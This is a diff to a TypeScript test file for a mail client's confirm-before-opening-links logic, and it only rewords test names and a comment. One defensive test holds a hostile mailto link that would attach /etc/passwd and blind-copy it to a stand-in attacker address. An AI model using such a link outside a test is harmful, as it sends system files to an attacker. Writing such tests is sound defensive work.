@@ -16,7 +16,7 @@ beforeEach(() => {
   vi.clearAllMocks();
 });
 
-/** The question that the user saw, who then pressed the button of that position. */
+/** The dialog that the user saw before pressing the button at that index. */
 async function asked(
   button: number,
   ask: () => Promise<unknown>,
@@ -43,7 +43,7 @@ describe("a link of a mail", () => {
     expect(shell.openExternal.mock.calls).toEqual([["https://shop.example/a"]]);
   });
 
-  it("does not open when the user presses Cancel, which is what Return, Escape and closing the question do", async () => {
+  it("does not open on Cancel, which Return, Escape and closing the dialog mean, too", async () => {
     const { buttons, defaultId, cancelId } = await asked(1, () =>
       openLinkIfAgreed(window, "https://shop.example/a"),
     );
@@ -51,7 +51,7 @@ describe("a link of a mail", () => {
     expect(shell.openExternal).not.toHaveBeenCalled();
   });
 
-  it("opens without what could do harm", async () => {
+  it("opens without its harmful parts", async () => {
     await asked(0, () =>
       openLinkIfAgreed(window, "mailto:ana@client.example?attach=/etc/passwd&bcc=spy@evil.example"),
     );
@@ -80,7 +80,7 @@ describe("a link of a mail", () => {
 });
 
 describe("the dialog for files", () => {
-  it("opens nothing when the user thinks better of it", async () => {
+  it("opens nothing when the user cancels", async () => {
     const settings = { read: () => ({}), write: vi.fn<() => void>() };
     dialog.showOpenDialog.mockResolvedValueOnce({
       canceled: true,
